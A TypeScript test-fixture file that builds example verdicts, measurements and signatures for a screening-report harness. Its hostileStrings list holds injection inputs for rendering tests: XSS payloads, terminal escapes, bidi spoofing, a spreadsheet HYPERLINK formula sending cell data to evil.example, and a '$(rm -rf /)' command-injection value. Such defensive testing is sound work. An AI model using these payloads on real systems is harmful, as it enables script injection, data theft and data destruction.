import { conclude, writeHeadline } from '../../harness/judge/conclude.ts';
import { medianInterval } from '../../harness/stats/median-interval.ts';
import { countCells, exitCodeOf, listedUnder } from '../../reports/verdict/algebra.ts';
import type { Cell } from '../../reports/verdict/cell.ts';
import { keepReadings } from '../../reports/verdict/keep-readings.ts';
import type { Measurement } from '../../reports/verdict/measurement.ts';
import type { Said } from '../../reports/verdict/said.ts';
import type { Signature } from '../../reports/verdict/signature.ts';
import type { Verdict } from '../../reports/verdict/verdict.ts';
import type { Subject } from '../../workloads/kit/subject.ts';
import { nameOf, subjectOfGroup } from '../../workloads/kit/subject.ts';
import { vmVerdict } from './judged-examples.ts';

/** Parts of verdict documents that no judge would make, for tests that need them; judged ones are in judged-examples.ts. */

/** A sentence in the words of an example. */
export const quoted = (text: string): Said => ({ say: 'quoted', text });

/** What a name in an example stands for: `n`, `n/device`, `n1+n2`. */
export function exampleSubject(name: string): Subject {
  const members = name.split('+');
  if (members.length > 1) return subjectOfGroup(name, members);
  const [node = '', ...device] = name.split('/');
  return device.length === 0 ? { kind: 'node', node } : { kind: 'device', node, device: device.join('/') };
}

/** Subject and sentences may be given as text. */
type CellInput = Pick<Cell, 'requirement' | 'title' | 'dimension' | 'verdict'> &
  Partial<Omit<Cell, 'subject' | 'reason' | 'action'>> & {
    readonly subject: Subject | string;
    readonly reason: Said | string;
    readonly action?: Said | string | undefined;
  };

/** A cell with the usual defaults. */
export function exampleCell({ subject: given, reason, action, ...input }: CellInput): Cell {
  const subject = typeof given === 'string' ? exampleSubject(given) : given;
  const said = (it: Said | string): Said => (typeof it === 'string' ? quoted(it) : it);
  const advice = input.verdict === 'pass' ? action : (action ?? 'Look at the evidence, then measure again.');
  return {
    id: `${nameOf(subject)}:${input.requirement}`,
    subject,
    level: 'required',
    owner: 'hardware',
    gate: false,
    sampling: 'screening',
    reason: said(reason),
    ...(advice === undefined ? {} : { action: said(advice) }),
    ...input,
  };
}

type MeasurementInput = Pick<Measurement, 'metric' | 'title' | 'unit' | 'tool'> &
  Partial<Omit<Measurement, 'subject'>> & { readonly subject: Subject | string };

/** A measurement of `values`, with the statistics taken from them. */
export function exampleMeasurement(
  values: readonly number[],
  { subject: given, ...input }: MeasurementInput,
): Measurement {
  const subject = typeof given === 'string' ? exampleSubject(given) : given;
  const sorted = [...values].sort((left, right) => left - right);
  const middle = (sorted.length - 1) / 2;
  const interval = medianInterval(values, 0.95);
  return {
    subject,
    better: 'higher',
    correctness: false,
    dimensions: {},
    origin: 'native',
    n: values.length,
    median: (sorted[Math.floor(middle)]! + sorted[Math.ceil(middle)]!) / 2,
    min: sorted[0]!,
    max: sorted.at(-1)!,
    ...(interval === undefined ? {} : { interval: { ...interval } }),
    ...keepReadings(
      values.map((value, place) => ({
        step: `${input.metric}-${nameOf(subject)}-${place + 1}`,
        value,
        at: [{ command: 'run', output: 'stdout', line: 12 }],
      })),
    ),
    ...input,
  };
}

/** A verdict that agrees with itself: counts, conclusion, headline and exit code are what the judge makes of the cells. */
export function exampleVerdict(input: Partial<Verdict> & Pick<Verdict, 'cells'>): Verdict {
  const { cells } = input;
  const nodes =
    input.nodes ?? [...new Set(cells.map(listedUnder))].map((id) => ({ id, reached: true, facts: [] }));
  const standing = conclude(cells, nodes);
  const conclusion = input.conclusion ?? standing.conclusion;
  return {
    ...vmVerdict(),
    kind: 'screening report',
    conclusion,
    exitCode: exitCodeOf(conclusion),
    headline: writeHeadline(standing, cells),
    counts: { required: countCells(cells, 'required'), advisory: countCells(cells, 'advisory') },
    assets: [],
    nodes,
    defects: [],
    measurements: [],
    attempts: [],
    notShown: [],
    evidence: { inputs: [], journals: [], samples: [] },
    ...input,
  };
}

/** Strings that a hostile or broken node could send: markup, controls, bidi overrides, formulas, endless words. */
export const hostileStrings: readonly string[] = [
  '<script>alert(1)</script><img src=x onerror=alert(2)>',
  '"><style>*{display:none}</style>',
  '\'><a href="javascript:alert(3)">x</a>',
  ']]><!-- -- --><![CDATA[',
  '\u001b[2J\u001b]0;owned\u0007\u009b31m',
  'invoice\u202efdp.exe \u2066isolated\u2069 zero\u200bwidth\ufeff',
  '=HYPERLINK("http://evil.example/?"&A1,"ok")',
  '+1+1',
  '-2-3',
  '@SUM(A1)',
  '\t=1',
  '|cmd',
  'line one\r\nline two\u2028three\u0000four',
  'x'.repeat(5000),
  'Größe 大きさ 크기 🙂 e\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301',
  '\ud800 lone surrogate \uffff',
  '| pipe | [link](http://evil.example) `code` **bold** https://evil.example www.evil.example @someone',
  '$(rm -rf /); `id` \\',
  '',
];

/** The virtual machine's verdict with hostile text in every place that a node or a file can fill. */
export function hostileVerdict(): Verdict {
  const base = vmVerdict();
  let turn = 0;
  const evil = () => hostileStrings[turn++ % hostileStrings.length]!;
  return {
    ...base,
    headline: quoted(evil()),
    assay: evil(),
    run: { ...base.run, id: evil() },
    profile: { id: evil(), version: evil(), title: evil(), digest: evil() },
    suite: { id: evil(), version: evil() },
    assets: base.assets.map((asset) => ({
      ...asset,
      node: evil(),
      meaning: quoted(evil()),
      reason: quoted(evil()),
      decidedBy: evil(),
      class: { ...asset.class, id: evil() },
      ladder: hostileStrings.map((profile) => ({
        profile,
        conclusion: 'fail' as const,
        reason: quoted(evil()),
      })),
    })),
    nodes: hostileStrings.map((id) => ({
      id,
      reached: false,
      why: { say: 'quoted', text: evil() },
      facts: [
        { group: evil(), name: evil(), value: evil() },
        { group: evil(), name: evil(), unknown: evil() },
      ],
    })),
    cells: base.cells.map((cell) => ({
      ...cell,
      title: evil(),
      reason: quoted(evil()),
      subject: { kind: 'group' as const, name: evil() },
      blamedOn: [evil()],
      requirement: evil(),
      dimension: evil(),
      action: quoted(evil()),
      ...(cell.limit === undefined
        ? {}
        : {
            limit: {
              ...cell.limit,
              id: evil(),
              source: evil(),
              comparator: 'oneOf' as const,
              expected: [...hostileStrings],
            },
          }),
      observed: { kind: 'fact' as const, path: evil(), value: evil() },
    })),
    defects: hostileStrings.map((id) => ({
      ...base.defects[0]!,
      id,
      nodes: [evil()],
      subject: { kind: 'device' as const, node: evil(), device: evil() },
      symptom: quoted(evil()),
      action: quoted(evil()),
      evidence: [...hostileStrings],
    })),
    measurements: base.measurements.map((measurement) => ({
      ...measurement,
      metric: evil(),
      title: evil(),
      subject: { kind: 'node' as const, node: evil() },
      tool: evil(),
      toolVersion: evil(),
      invalid: quoted(evil()),
      dimensions: Object.fromEntries(hostileStrings.map((name) => [name, evil()])),
    })),
    attempts: hostileStrings.map((step) => ({
      step,
      node: evil(),
      workload: evil(),
      tool: evil(),
      repetition: 1,
      execution: evil(),
      reason: quoted(evil()),
    })),
    notShown: hostileStrings.map((what) => ({ what: quoted(what), reason: quoted(evil()) })),
    evidence: {
      inputs: hostileStrings.map((path) => ({ path, sha256: evil() })),
      samples: hostileStrings.map((node) => ({ node, path: evil(), sha256: evil() })),
      journals: hostileStrings.map((node) => ({ node, records: 1, head: evil() })),
    },
  };
}

/** Who signed a report of conformity; which attempts a test shows is its own matter. */
export const exampleSignature: Omit<Signature, 'attempts'> = {
  key: 'SHA256:SFMVDOrhOSBssOVH9hIcK/Z2XVf1oSVMjNCL8u2aICY',
  algorithm: 'ed25519',
  bundle: 'report.0123456789abcdef.sigstore.json',
  issued: '2026-11-24T08:00:00.000Z',
  expires: '2027-11-23T00:00:00.000Z',
  ledger: { origin: 'example.com/hall-3', size: 12, begin: 9 },
};
